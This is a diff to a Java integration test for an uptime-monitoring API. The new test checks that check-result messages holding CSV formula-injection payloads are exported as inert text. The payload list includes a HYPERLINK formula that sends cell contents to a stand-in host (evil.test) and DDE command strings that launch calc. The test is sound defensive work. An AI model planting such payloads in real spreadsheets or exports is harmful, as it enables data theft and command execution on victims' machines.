@@ -44,13 +44,17 @@ class UptimeApiIT {
     }
 
     private void result(UUID monitor, Instant time, String region, boolean ok, long latency) {
+        result(monitor, time, region, ok, latency, "HTTP status 503");
+    }
+
+    private void result(UUID monitor, Instant time, String region, boolean ok, long latency, String message) {
         UUID round = UUID.nameUUIDFromBytes((monitor + "|" + time).getBytes());
         jdbc.sql("""
                         INSERT INTO check_results (time, job_id, round_id, monitor_id, workspace_id, region, kind,
                                                    started_at, ok, latency_ms, error, message)
                         SELECT ?, ?, ?, id, workspace_id, ?, 'SCHEDULED', ?, ?, ?, ?, ? FROM monitors WHERE id = ?""")
                 .params(Timestamp.from(time), UUID.randomUUID(), round, region, Timestamp.from(time), ok, latency,
-                        ok ? null : "HTTP_STATUS", ok ? null : "HTTP status 503", monitor)
+                        ok ? null : "HTTP_STATUS", ok ? null : message, monitor)
                 .update();
     }
 
@@ -152,6 +156,35 @@ class UptimeApiIT {
         assertThat(api.get("/api/v1/monitors/" + monitor + "/export?format=xml").status()).isEqualTo(400);
         assertThat(new ApiClient(port).signUp().get("/api/v1/monitors/" + monitor + "/export").status())
                 .isEqualTo(404);
+    }
+
+    @Test
+    void formulasInResultTextAreDefusedInTheCsvExport() {
+        ApiClient api = new ApiClient(port).signUp();
+        UUID monitor = monitorCreatedDaysAgo(api, 2);
+        Instant start = Instant.now().minus(Duration.ofMinutes(30)).truncatedTo(ChronoUnit.SECONDS);
+        // Text a hostile target can put in a check's error message (an assertion quoting its body, say).
+        List<String> payloads = List.of("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
+                "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
+        for (int i = 0; i < payloads.size(); i++) {
+            result(monitor, start.plusSeconds(60L * i), "local-a", false, 10, payloads.get(i));
+        }
+        String range = "from=" + start.minusSeconds(1) + "&to=" + Instant.now().plusSeconds(1);
+
+        ApiClient.Response csv = api.get("/api/v1/monitors/" + monitor + "/export?format=csv&" + range);
+
+        assertThat(csv.status()).isEqualTo(200);
+        List<String> cells = new java.util.ArrayList<>();
+        for (String payload : payloads) {
+            String expected = CsvCell.of(payload);
+            assertThat(csv.body()).contains("," + expected + ",");
+            assertThat(expected.replace("\"", "")).startsWith("'");
+            cells.add(expected);
+            System.out.printf("attack: CSV formula %s in a result's message -> refused, exported as text %s%n",
+                    payload.replace("\t", "\\t").replace("\r", "\\r"),
+                    expected.replace("\t", "\\t").replace("\r", "\\r"));
+        }
+        assertThat(cells).hasSize(payloads.size());
     }
 
     @Test
